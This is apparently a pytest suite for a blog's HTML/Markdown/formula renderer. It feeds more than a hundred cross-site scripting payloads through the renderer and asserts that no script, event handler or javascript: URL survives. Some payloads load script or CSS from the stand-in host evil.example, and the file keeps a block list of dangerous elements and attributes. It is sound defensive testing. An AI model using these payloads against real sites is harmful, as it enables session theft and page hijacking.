"""Scripts and their relatives, brought in through everything an author can write.

The assertions are made on the tree that an HTML parser sees, not on the text of the page: text
that only looks like a script is harmless, and `alt="<script>"` is no script.
"""

import pytest
from lxml import html as lxml_html

from blog.markup import render
from blog.markup.embeds import VIDEO_HOSTS

DANGEROUS_ELEMENTS = frozenset(
    """
    applet base button embed fieldset form foreignobject frame frameset link meta noscript object
    option script select style svg template textarea title animate set use xmp
    """.split()
)
ADDRESS_ATTRIBUTES = ("href", "src", "action", "formaction", "poster", "data", "srcset", "cite")

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://evil.example/?x=https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://www.youtube.com/embed/&quot;onload=alert(1)"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    '<video poster="javascript:alert(1)"></video>',
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;inset:0">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml <script>alert(1)</script> ?>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    "<a name=body id=cookie>x</a>",
    "<img id=body name=getElementById src=x alt=x>",
    "<div class=masthead id=search>x</div>",
    "<b/onclick=alert(1)>x",
    "<x onclick=alert(1)>y</x>",
    "<p>\n\n</p><script>alert(1)</script>",
    "<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>",
    '<div title="&lt;script&gt;alert(1)&lt;/script&gt;">x</div>',
    "<table><script>alert(1)</script><td background='javascript:alert(1)'>x</table>",
    "<plaintext><script>alert(1)</script>",
]
MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](`javascript:`alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](y "a\\" onerror=\\"alert(1)")',
    '![x" onerror="alert(1)](y)',
    "[x](y \"' onmouseover=alert(1) '\")",
    '[x](y" onclick="alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "http://x.example/\"onmouseover='alert(1)'",
    "https://x.example/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```python title="</div><script>alert(1)</script>" {1}\nx\n```',
    "```python\n'''</span><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "# <script>alert(1)</script>",
    '# x" onclick="alert(1)\n\n[TOC]',
    "# `</a><script>alert(1)</script>`\n\n[TOC]",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
    "x[^a]\n\n[^a]: <img src=x onerror=alert(1)>",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    ":::tip <svg onload=alert(1)>\nx\n:::",
    "- [ ] <script>alert(1)</script>",
    '{% youtube "><script>alert(1)</script> %}',
    "{% youtube dQw4w9WgXcQ title='\"><script>alert(1)</script>' %}",
    '{{< figure src="javascript:alert(1)" caption="<script>alert(1)</script>" >}}',
    "{{< figure src='x\" onerror=\"alert(1)' >}}",
    '{{< link "javascript:alert(1)" "<script>alert(1)</script>" >}}',
    "{{ '<script>alert(1)</script>' }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{% highlight html %}\n</code><script>alert(1)</script>\n{% endhighlight %}",
]
FORMULA_PAYLOADS = [
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</mtext><script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\class{masthead}{x}\\style{color:red}{x}\\cssId{search}{x}$",
    "$\\html{<img src=x onerror=alert(1)>}$",
    '$\\label{"onclick="alert(1)}\\tag{<script>}$',
    "$$\\begin{align}x\\label{<script>alert(1)</script>}\\end{align}$$",
    "$\\color{red;background:url(//evil.example)}{x}$",
    '$x" onmouseover="alert(1)$',
    "$</math><script>alert(1)</script>$",
    "$\\frob{<img src=x onerror=alert(1)>}$",
    "![$</math><script>alert(1)</script>$](x)",
    '![`"><script>alert(1)</script>`](x "$\\text{\\"><script>}$")',
    '<img alt="$x$" title="$\\text{<script>alert(1)</script>}$" src="y">',
    '<a href="$javascript:alert(1)$">x</a>',
    "[x]($javascript:alert(1)$)",
    "[x](\\(javascript:alert(1)\\))",
    "<div>$</div><script>alert(1)</script>$</div>",
    "\U0010f8f00\U0010f8f1<script>alert(1)</script>",
    "$x$ &#x10F8F0;0&#x10F8F1; <img alt='&#x10F8F0;0&#x10F8F1;' src=x>",
    "```\nx\n```\n\n<img alt='&#1112304;0&#1112305;' src=x>",
]
PAYLOADS = HTML_PAYLOADS + MARKDOWN_PAYLOADS + FORMULA_PAYLOADS


def assert_harmless(html: str) -> None:
    root = lxml_html.fragment_fromstring(html, create_parent="div")
    for element in root.iter():
        tag = str(element.tag).lower()
        assert tag not in DANGEROUS_ELEMENTS, tag
        if tag == "iframe":
            assert str(element.get("src")).startswith(tuple(f"{host}/" for host in VIDEO_HOSTS))
            assert element.get("srcdoc") is None
        for name, value in element.attrib.items():
            attribute = name.lower()
            assert not attribute.startswith("on"), attribute
            assert attribute != "style"
            assert attribute not in ("formaction", "action", "srcdoc", "background", "xlink:href")
            if attribute in ADDRESS_ATTRIBUTES:
                address = "".join(value.split()).lower()
                assert not address.startswith(("javascript:", "vbscript:", "file:"))
                assert not address.startswith("data:") or address.startswith("data:image/png")


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:40])
@pytest.mark.parametrize(
    "around",
    ["{}", "文字 {} 文字", "- 项\n\n  {}", "> {}", "<div>\n\n{}\n\n</div>", "**{}**"],
    ids=["alone", "text", "item", "quote", "html", "strong"],
)
def test_nothing_runs(payload, around):
    assert_harmless(render(around.format(payload)).html)


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) > 100


def test_the_assertion_notices_what_it_must():
    for harm in (
        "<script>x</script>",
        "<img src=x onerror=y>",
        "<a href='java\nscript:x'>y</a>",
        "<p style='x'>y</p>",
        "<iframe src=https://evil.example/></iframe>",
        "<a href='data:text/html,x'>y</a>",
    ):
        with pytest.raises(AssertionError):
            assert_harmless(harm)


def test_the_text_of_an_attack_is_shown_as_text():
    html = render("`<script>alert(1)</script>`").html

    assert html == "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>"


def test_a_formula_cannot_leave_an_attribute():
    html = render('![$x" onerror="y$](z)').html

    image = lxml_html.fragment_fromstring(html).find("img")
    assert image.get("alt") == '$x" onerror="y$'
    assert image.get("onerror") is None


def test_ids_and_classes_of_authors_cannot_be_the_pages():
    html = render('<div id="search" class="masthead">x</div><a name="main">y</a>').html

    assert html == ('<div id="user-content-search">x</div><a id="user-content-main">y</a>')


def test_a_token_that_an_author_writes_stands_for_nothing():
    html = render("$x$ \U0010f8f00\U0010f8f1 &#x10F8F0;0&#x10f8f1; &#01112304;0&#1112305;").html

    assert html.count("<math") == 1
    assert html.count("\ufffd") == 6
